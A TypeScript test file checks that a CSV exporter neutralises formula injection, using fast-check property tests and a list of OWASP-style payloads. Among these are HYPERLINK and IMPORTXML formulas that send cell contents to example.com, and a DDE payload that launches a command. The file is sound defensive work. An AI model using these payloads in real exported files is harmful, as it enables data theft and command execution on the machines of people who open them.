import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { expect, test } from "vitest";
import { csvBom, csvLine } from "../../server/csv/csv.ts";

const cellsOf = (file: string, delimiter = ","): string[][] =>
  parse(file, { bom: true, delimiter, relaxQuotes: true, relaxColumnCount: true });
const dangerous = /^[\s"]*[=+\-@＝＋－＠]|^[\t\r\n\0]/;

/** OWASP's "CSV Injection" and the payloads that go around. */
const hostile = [
  '=HYPERLINK("https://example.com/?"&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  " =1+1",
  '"=1+1',
  '=1+1";=1+2',
  "=1+2'\" ;,=1+2",
  "Deal;=1+1",
  'Deal; "=1+1',
  "Deal\n=1+1",
  "Deal\r\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
];

test.each(hostile)("T23: %j starts no formula, in no cell", (text) => {
  const file = csvBom + csvLine(["Stage", "Reason"]) + csvLine([text, text]);
  expect(
    cellsOf(file)
      .flat()
      .filter((cell) => dangerous.test(cell)),
  ).toEqual([]);
});

test.each(hostile)("T23: %j starts no formula where `;` or a tab ends a cell", (text) => {
  const line = csvLine(["Stage", text]);
  // Excel reads a quoted part at a cell's start, and what follows it as it is.
  const cells = line.split(/[;\t\r\n]/).map((cell) => cell.replace(/^"((?:[^"]|"")*)"/, (_, inside: string) => inside));
  expect(cells.filter((cell) => dangerous.test(cell))).toEqual([]);
});

test("T23: whatever is exported, no cell starts a formula and every cell stays in its column", () => {
  const nasty = fc.string({
    unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "\0", '"', "'", ",", ";", " ", "a", "ü", "＝", "1"),
    maxLength: 12,
  });
  fc.assert(
    fc.property(fc.array(fc.tuple(nasty, nasty, fc.integer()), { minLength: 1, maxLength: 5 }), (rows) => {
      const read = cellsOf(rows.map((row) => csvLine(row)).join(""));
      expect(read).toHaveLength(rows.length);
      for (const [at, row] of read.entries()) {
        expect(row).toHaveLength(3);
        expect(dangerous.test(row[0] ?? "")).toBe(false);
        expect(dangerous.test(row[1] ?? "")).toBe(false);
        expect(row[2]).toBe(String(rows[at]?.[2]));
      }
    }),
    { numRuns: 2_000 },
  );
});

test("what is harmless is written as it is", () => {
  expect(csvLine(["Sales, north", 'the "big" one', "Ünïcode – 名前", 12, -3, null, undefined, ""])).toBe(
    '"Sales, north","the ""big"" one","Ünïcode – 名前",12,-3,,,""\r\n',
  );
  expect(csvLine([new Date("2026-11-23T09:14:00Z")])).toBe('"2026-11-23T09:14:00.000Z"\r\n');
});
